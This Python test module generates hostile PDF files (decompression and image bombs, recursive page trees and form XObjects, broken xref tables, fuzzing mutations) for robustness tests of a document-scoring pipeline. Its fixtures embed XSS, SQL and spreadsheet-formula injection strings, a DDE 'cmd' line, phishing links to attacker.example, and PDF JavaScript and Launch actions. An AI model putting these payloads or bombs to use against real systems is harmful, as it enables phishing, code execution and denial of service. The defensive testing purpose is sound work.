"""Hostile PDFs, made here: one per class of input that has taken PDF tools down.

Each case is written from raw PDF syntax (or reportlab where a valid file with one bad property is
wanted) so the file is exactly as hostile as intended and small enough to make in a test. The
expected outcome of each is ``scored`` (the file is odd but readable and must be scored) or a set
of acceptable failure codes (it must be recorded as a failure with that reason, within the limits,
while the rest of the batch is scored).

Used by tests/test_hostile.py and benchmarks/hostile.py (which mixes them with the samples and
records the matrix: case, outcome, code, seconds, peak memory).
"""

from __future__ import annotations

import random
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from pdf_builder import FONT, build_pdf, stream

STATEMENT = ("This statement is made pursuant to section 54 of the Modern Slavery Act 2015 and sets out the "
             "steps Example Bank plc has taken to ensure that slavery and human trafficking are not taking "
             "place in its supply chains or in any part of its business.")


def text_content(lines: list[str] | None = None, size: float = 11, x: float = 72, y: float = 720) -> bytes:
    lines = lines or [STATEMENT[i:i + 80] for i in range(0, len(STATEMENT), 80)]
    parts = [b"BT /F1 %g Tf %g TL %g %g Td" % (size, size * 1.3, x, y)]
    for line in lines:
        escaped = line.encode("latin-1", "replace").replace(b"\\", b"\\\\").replace(b"(", b"\\(").replace(b")", b"\\)")
        parts.append(b"(" + escaped + b") Tj T*")
    parts.append(b"ET")
    return b"\n".join(parts)


def one_page(content: bytes = b"", *, mediabox: bytes = b"[0 0 612 792]", page_extra: bytes = b"",
             info: bytes | None = None, content_dict: bytes = b"") -> bytes:
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox " + mediabox + b" /Resources << /Font << /F1 5 0 R >> >>"
           b" /Contents 4 0 R " + page_extra + b">>",
        4: stream(content or text_content(), content_dict),
        5: FONT,
    }
    if info is not None:
        objects[6] = info
    return build_pdf(objects, info=6 if info is not None else None)


def pdf_string(text: str) -> bytes:
    """A PDF text string in UTF-16BE (so any character, including controls, survives)."""
    return b"<feff" + text.encode("utf-16-be").hex().encode() + b">"


# -- the cases ---------------------------------------------------------------------------------------

def malformed_mediabox() -> bytes:
    """The 711-byte class: a MediaBox that is not four numbers."""
    return one_page(mediabox=b"[0 0 abc /X]")


def nested_mediabox() -> bytes:
    return one_page(mediabox=b"[[0 0 612 792]]")


def mediabox_reference_loop() -> bytes:
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 /MediaBox 6 0 R >>",
        3: b"<< /Type /Page /Parent 2 0 R /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>",
        4: stream(text_content()),
        5: FONT,
        6: b"7 0 R",
        7: b"6 0 R",
    }
    return build_pdf(objects)


def odd_page_dictionaries() -> bytes:
    """Kids that are not pages: a number, a string, a page without /Type, Resources as an array."""
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R 42 (x) 6 0 R 7 0 R] /Count 4 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 5 0 R >> >>"
           b" /Contents 4 0 R >>",
        4: stream(text_content()),
        5: FONT,
        6: b"<< /Parent 2 0 R /Contents 4 0 R /Resources [1 2 3] >>",
        7: b"<< /Type /Page /Parent 2 0 R /Contents 5 0 R /Resources << /Font 4 0 R >> /MediaBox (wide) >>",
    }
    return build_pdf(objects)


def deep_page_tree(depth: int = 5000) -> bytes:
    """A page tree 5,000 levels deep (recursive readers overflow their stack)."""
    objects = {1: b"<< /Type /Catalog /Pages 2 0 R >>"}
    first = 2
    for level in range(depth):
        number = first + level
        parent = b" /Parent %d 0 R" % (number - 1) if level else b""
        objects[number] = b"<< /Type /Pages /Kids [%d 0 R] /Count 1%s >>" % (number + 1, parent)
    page = first + depth
    objects[page] = (b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 %d 0 R >> >>"
                     b" /Contents %d 0 R >>" % (page - 1, page + 2, page + 1))
    objects[page + 1] = stream(text_content())
    objects[page + 2] = FONT
    return build_pdf(objects)


def circular_page_tree() -> bytes:
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 2 >>",
        3: b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R 4 0 R] /Count 2 >>",
        4: b"<< /Type /Page /Parent 3 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 6 0 R >> >>"
           b" /Contents 5 0 R >>",
        5: stream(text_content()),
        6: FONT,
    }
    return build_pdf(objects)


def recursive_form_xobject() -> bytes:
    """A form XObject that draws itself (infinite recursion in a naive interpreter)."""
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 5 0 R >>"
           b" /XObject << /X 6 0 R >> >> /Contents 4 0 R >>",
        4: stream(text_content() + b"\nq /X Do Q"),
        5: FONT,
        6: stream(b"q 0.5 0 0 0.5 0 0 cm /X Do Q", b"/Type /XObject /Subtype /Form /BBox [0 0 612 792]"
                  b" /Resources << /XObject << /X 6 0 R >> >>"),
    }
    return build_pdf(objects)


def form_xobject_laughs(levels: int = 7, fan_out: int = 10) -> bytes:
    """'Billion laughs' for PDF: each form draws the next ten times, so a 2 KB file asks for
    10^7 text runs. Slow (and memory-hungry) in any reader that expands forms."""
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 5 0 R >>"
           b" /XObject << /X 10 0 R >> >> /Contents 4 0 R >>",
        4: stream(text_content() + b"\nq /X Do Q"),
        5: FONT,
    }
    for level in range(levels):
        number = 10 + level
        if level == levels - 1:
            body = b"BT /F1 6 Tf 72 72 Td (laugh) Tj ET"
            resources = b"<< /Font << /F1 5 0 R >> >>"
        else:
            body = b" ".join(b"q 1 0 0 1 %d 0 cm /X Do Q" % i for i in range(fan_out))
            resources = b"<< /XObject << /X %d 0 R >> >>" % (number + 1)
        objects[number] = stream(body, b"/Type /XObject /Subtype /Form /BBox [0 0 612 792] /Resources " + resources)
    return build_pdf(objects)


def bad_zlib_checksum(size: int = 262_000) -> bytes:
    """The 45-minute class: a large Flate stream whose Adler-32 checksum is wrong, which sends
    pdfminer into decompressing byte by byte with quadratic concatenation."""
    payload = (text_content() + b"\n") * 2 + b"% " + bytes(random.Random(7).randrange(32, 127) for _ in range(2000))
    payload += b"\n" + b"0 0 m 1 1 l S\n" * 400_000
    packed = bytearray(zlib.compress(payload, 9))
    packed[-1] ^= 0xFF  # break the checksum
    packed = bytes(packed[:size]) if len(packed) > size else bytes(packed)
    return one_page(packed, content_dict=b"/Filter /FlateDecode")


def decompression_bomb(layers: int = 2, inflated: int = 3 * 2**30) -> bytes:
    """A content stream of zeros compressed twice: a few kilobytes that inflate to gigabytes."""
    chunk = zlib.compressobj(9)
    block = b"\0" * 2**20
    once = b"".join(chunk.compress(block) for _ in range(inflated // 2**20)) + chunk.flush()
    data = once
    for _ in range(layers - 1):
        data = zlib.compress(data, 9)
    filters = b"[" + b" ".join([b"/FlateDecode"] * layers) + b"]"
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 5 0 R >> >>"
           b" /Contents [4 0 R 6 0 R] >>",
        4: stream(text_content()),
        5: FONT,
        6: stream(data, b"/Filter " + filters),
    }
    return build_pdf(objects)


def image_bomb() -> bytes:
    """An image that declares 60,000 x 60,000 RGB pixels (10.8 GB) from a tiny stream, on a page
    with no text (so a reader that OCRs image pages renders it)."""
    pixels = zlib.compress(zlib.compress(b"\x80" * (60_000 * 3 * 200), 9), 9)
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /XObject << /Im 5 0 R >> >>"
           b" /Contents 4 0 R >>",
        4: stream(b"q 612 0 0 792 0 0 cm /Im Do Q"),
        5: stream(pixels, b"/Type /XObject /Subtype /Image /Width 60000 /Height 60000 /ColorSpace /DeviceRGB"
                          b" /BitsPerComponent 8 /Filter [/FlateDecode /FlateDecode]"),
    }
    return build_pdf(objects)


def very_wide_page() -> bytes:
    """A page 200 inches wide (PDF's largest user unit) full of short text runs."""
    runs = []
    for row in range(60):
        for col in range(120):
            runs.append(b"BT /F1 9 Tf %d %d Td (word%d) Tj ET" % (col * 120, 14_000 - row * 12, col))
    return one_page(b"\n".join(runs), mediabox=b"[0 0 14400 14400]")


def huge_text_run() -> bytes:
    """One text line of 1.2 million characters with no full stop: a 'paragraph' no splitter expects."""
    words = " ".join(["modern", "slavery", "risk", "supply", "chain", "due", "diligence"] * 25_000)
    return one_page(b"BT /F1 1 Tf 0 400 Td (" + words.encode() + b") Tj ET", mediabox=b"[0 0 14400 800]")


def many_text_objects() -> bytes:
    """200,000 one-character text objects on one page."""
    runs = [b"BT /F1 4 Tf %d %d Td (%c) Tj ET" % (10 + (i % 300) * 2, 780 - (i // 300) % 390 * 2, 97 + i % 26)
            for i in range(200_000)]
    return one_page(b"\n".join(runs))


def control_characters() -> bytes:
    """Text with NUL, a right-to-left override, escapes and other controls inside words."""
    lines = ["This statement \x00is approved by the board of directors of Example Bank plc.",
             "Signed: \u202eJane Smith, Chief Executive Officer\u202c on 1 May 2024.",
             "We train\x07 staff\x1b[31m to spot modern slavery \x0b red flags in payments."]
    content = b"BT /F1 11 Tf 72 720 Td 14 TL " + b" ".join(b"(" + line.encode("latin-1", "replace") + b") Tj T*"
                                                            for line in lines) + b" ET"
    return one_page(content)


def markup_payloads() -> bytes:
    lines = ["Our board approved this statement. <script>alert('staff')</script> <img src=x onerror=alert(1)>",
             "![tracking](http://attacker.example/pixel.png) [re-enter your staff password](http://attacker.example)",
             ":red[Urgent] <a href='javascript:alert(1)'>click</a> '; DROP TABLE results; --",
             "=HYPERLINK(\"http://attacker.example\",\"Click\") +cmd|' /C calc'!A0 @SUM(1+1)"]
    return one_page(text_content(lines, size=9))


def hostile_metadata() -> bytes:
    """A 10 MB title, a formula as the author, controls and an override in the subject."""
    title = b"(Modern Slavery Statement 2024 " + b"A" * 10_000_000 + b")"
    info = (b"<< /Title " + title + b" /Author " + pdf_string('=HYPERLINK("http://attacker.example","Barclays")')
            + b" /Subject " + pdf_string("\x00\u202eevil\u202c\x07") + b" /Producer (\\000\\033[2J) >>")
    return one_page(info=info)


def javascript_and_launch() -> bytes:
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /Names << /JavaScript << /Names [(x) 6 0 R] >> >> >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 5 0 R >> >>"
           b" /Contents 4 0 R /AA << /O 7 0 R >> >>",
        4: stream(text_content()),
        5: FONT,
        6: b"<< /S /JavaScript /JS (app.alert\\('pwned'\\); this.submitForm\\('http://attacker.example'\\);) >>",
        7: b"<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>",
    }
    return build_pdf(objects)


def xref_garbage() -> bytes:
    """Valid objects, but the cross-reference table and startxref point at nonsense."""
    data = bytearray(one_page())
    at = data.rindex(b"startxref")
    return bytes(data[:at]) + b"startxref\n999999999\n%%EOF\n"


def prev_xref_loop() -> bytes:
    """An incremental update whose /Prev points back to itself."""
    data = one_page()
    at = data.rindex(b"startxref")
    xref = int(data[at:].split()[1])
    return data[:at] + b"startxref\n%d\n%%%%EOF\n" % xref + data[xref:at].replace(
        b"/Root 1 0 R", b"/Root 1 0 R /Prev %d" % xref) + b"startxref\n%d\n%%%%EOF\n" % (at + len(b"startxref\n%d\n%%%%EOF\n" % xref))


def stream_length_lies() -> bytes:
    """A content stream whose /Length is an indirect reference to itself and a negative number."""
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 5 0 R >> >>"
           b" /Contents [4 0 R 6 0 R] >>",
        4: stream(text_content(), length=-5),
        5: FONT,
        6: b"<< /Length 6 0 R >>\nstream\n" + text_content() + b"\nendstream",
    }
    return build_pdf(objects)


def broken_font() -> bytes:
    """A TrueType font program that is random bytes, with a ToUnicode CMap that is garbage too."""
    rng = random.Random(3)
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 5 0 R >> >>"
           b" /Contents 4 0 R >>",
        4: stream(text_content()),
        5: b"<< /Type /Font /Subtype /TrueType /BaseFont /Broken /FirstChar 32 /LastChar 126 /Widths 8 0 R"
           b" /FontDescriptor 6 0 R /ToUnicode 7 0 R >>",
        6: b"<< /Type /FontDescriptor /FontName /Broken /Flags 32 /FontBBox [0 0 1000 1000] /ItalicAngle 0"
           b" /Ascent 800 /Descent -200 /CapHeight 700 /StemV 80 /FontFile2 9 0 R >>",
        7: stream(b"/CIDInit /ProcSet findresource begin 12 dict begin begincmap 1 beginbfrange <00> <FF> [<0041"
                  b" <zz> ] endbfrange endcmap"),
        8: b"[" + b" ".join(b"%d" % rng.randrange(-999999, 999999) for _ in range(95)) + b"]",
        9: stream(bytes(rng.randrange(256) for _ in range(5000))),
    }
    return build_pdf(objects)


def header_only() -> bytes:
    return b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"


def truncated() -> bytes:
    data = one_page()
    return data[: len(data) // 2]


def empty() -> bytes:
    return b""


def not_a_pdf() -> bytes:
    return b"<html><body>This is a web page saved with a .pdf name</body></html>\n" * 20


def zip_named_pdf() -> bytes:
    import io
    import zipfile

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("statement.txt", STATEMENT)
    return buffer.getvalue()


def no_pages() -> bytes:
    return build_pdf({1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Kids [] /Count 0 >>"})


def page_count_lies() -> bytes:
    """/Count says two billion pages."""
    return one_page().replace(b"/Count 1", b"/Count 2147483647")


def too_many_pages(pages: int = 600) -> bytes:
    objects = {1: b"<< /Type /Catalog /Pages 2 0 R >>", 3: FONT, 4: stream(text_content())}
    kids = []
    for n in range(pages):
        number = 10 + n
        kids.append(b"%d 0 R" % number)
        objects[number] = (b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792]"
                           b" /Resources << /Font << /F1 3 0 R >> >> /Contents 4 0 R >>")
    objects[2] = b"<< /Type /Pages /Kids [" + b" ".join(kids) + b"] /Count %d >>" % pages
    return build_pdf(objects)


def _reportlab(**kwargs) -> bytes:
    import io

    from reportlab.lib.pagesizes import A4
    from reportlab.pdfgen import canvas

    buffer = io.BytesIO()
    page = canvas.Canvas(buffer, pagesize=A4, **kwargs)
    text = page.beginText(72, 760)
    text.setFont("Helvetica", 11)
    for start in range(0, len(STATEMENT), 85):
        text.textLine(STATEMENT[start:start + 85])
    text.textLine("This statement was approved by the Board of Directors on 1 May 2024.")
    text.textLine("Signed: Jane Smith, Chief Executive Officer")
    page.drawText(text)
    page.showPage()
    page.save()
    return buffer.getvalue()


def encrypted_user_password() -> bytes:
    from reportlab.lib import pdfencrypt

    return _reportlab(encrypt=pdfencrypt.StandardEncryption("open-sesame", ownerPassword="owner", strength=128))


def encrypted_owner_only() -> bytes:
    """Encrypted with an empty user password and an owner password: any reader opens it."""
    from reportlab.lib import pdfencrypt

    return _reportlab(encrypt=pdfencrypt.StandardEncryption("", ownerPassword="owner-secret", canPrint=0, strength=128))


def good_statement() -> bytes:
    return _reportlab()


@dataclass(frozen=True)
class Case:
    name: str
    make: Callable[[], bytes]
    expect: frozenset[str]  # "scored" and/or failure codes that count as handled
    why: str


SCORED = frozenset({"scored"})
READ_ERROR = frozenset({"DC103", "DC104"})
ANY_CLEAN = frozenset({"scored", "DC101", "DC103", "DC104"})
LIMITS = frozenset({"DC106", "DC107"})

CASES: tuple[Case, ...] = (
    Case("malformed_mediabox", malformed_mediabox, ANY_CLEAN, "crashed the batch and every rerun"),
    Case("nested_mediabox", nested_mediabox, ANY_CLEAN, "crashed the batch"),
    Case("mediabox_reference_loop", mediabox_reference_loop, ANY_CLEAN, "indirect objects pointing at each other"),
    Case("odd_page_dictionaries", odd_page_dictionaries, ANY_CLEAN, "crashed the batch"),
    Case("deep_page_tree", deep_page_tree, ANY_CLEAN, "5,000 levels: recursion limit"),
    Case("circular_page_tree", circular_page_tree, ANY_CLEAN, "page tree loops"),
    Case("recursive_form_xobject", recursive_form_xobject, ANY_CLEAN, "form draws itself"),
    Case("form_xobject_laughs", form_xobject_laughs, ANY_CLEAN | LIMITS, "2 KB asking for 10^7 text runs"),
    Case("bad_zlib_checksum", bad_zlib_checksum, ANY_CLEAN | LIMITS, "stalled a batch for 45 minutes"),
    Case("decompression_bomb", decompression_bomb, ANY_CLEAN | LIMITS, "2.6 KB that inflates to 3 GB"),
    Case("image_bomb", image_bomb, ANY_CLEAN | LIMITS, "an image of 10.8 GB pixels"),
    Case("very_wide_page", very_wide_page, ANY_CLEAN | LIMITS, "took 51 s"),
    Case("huge_text_run", huge_text_run, ANY_CLEAN, "a million-character paragraph (spaCy E088)"),
    Case("many_text_objects", many_text_objects, ANY_CLEAN | LIMITS, "200,000 text objects on a page"),
    Case("control_characters", control_characters, SCORED, "NUL and bidi overrides in text"),
    Case("markup_payloads", markup_payloads, SCORED, "Markdown, HTML and formulas in text"),
    Case("hostile_metadata", hostile_metadata, SCORED, "10 MB title, formula author"),
    Case("javascript_and_launch", javascript_and_launch, SCORED, "JavaScript and a launch action"),
    Case("xref_garbage", xref_garbage, ANY_CLEAN, "broken cross-reference table"),
    Case("prev_xref_loop", prev_xref_loop, ANY_CLEAN, "incremental update loop"),
    Case("stream_length_lies", stream_length_lies, ANY_CLEAN, "stream lengths that lie"),
    Case("broken_font", broken_font, ANY_CLEAN, "a font program of random bytes"),
    Case("header_only", header_only, READ_ERROR, "the header and one object"),
    Case("truncated", truncated, ANY_CLEAN, "cut in half"),
    Case("empty", empty, READ_ERROR, "zero bytes"),
    Case("not_a_pdf", not_a_pdf, READ_ERROR, "HTML saved as .pdf"),
    Case("zip_named_pdf", zip_named_pdf, READ_ERROR, "a ZIP saved as .pdf"),
    Case("no_pages", no_pages, READ_ERROR, "an empty page tree"),
    Case("page_count_lies", page_count_lies, ANY_CLEAN, "/Count of two billion"),
    Case("too_many_pages", too_many_pages, frozenset({"DC101"}), "over --max-pages"),
    Case("encrypted_user_password", encrypted_user_password, frozenset({"DC102"}), "needs --password"),
    Case("encrypted_owner_only", encrypted_owner_only, SCORED, "owner password only: opens without one"),
)


def write_cases(folder: Path, names: set[str] | None = None) -> dict[str, Path]:
    """Write every case (or the named ones) as NAME.pdf under ``folder``; returns name -> path."""
    folder.mkdir(parents=True, exist_ok=True)
    written = {}
    for case in CASES:
        if names is None or case.name in names:
            path = folder / f"{case.name}.pdf"
            path.write_bytes(case.make())
            written[case.name] = path
    return written


def mutate(data: bytes, rng: random.Random, edits: int = 8) -> bytes:
    """A damaged copy of a real PDF: bytes flipped, runs deleted, duplicated or truncated, numbers
    changed into huge or negative ones (the edits fuzzers find most crashes with)."""
    out = bytearray(data)
    for _ in range(edits):
        if not out:
            break
        kind = rng.randrange(6)
        at = rng.randrange(len(out))
        if kind == 0:
            out[at] = rng.randrange(256)
        elif kind == 1:
            del out[at:at + rng.randrange(1, 200)]
        elif kind == 2:
            out[at:at] = out[at:at + rng.randrange(1, 200)]
        elif kind == 3:
            del out[at:]
        elif kind == 4:
            digits = out.find(b" 0 R", at)
            if digits > 0:
                out[digits - 1:digits] = rng.choice([b"9999999", b"-1", b"0"])
        else:
            token = out.find(b"/Length", at)
            if token > 0:
                out[token + 8:token + 8] = rng.choice([b"99999999 ", b"-7 ", b"0 "])
    return bytes(out)
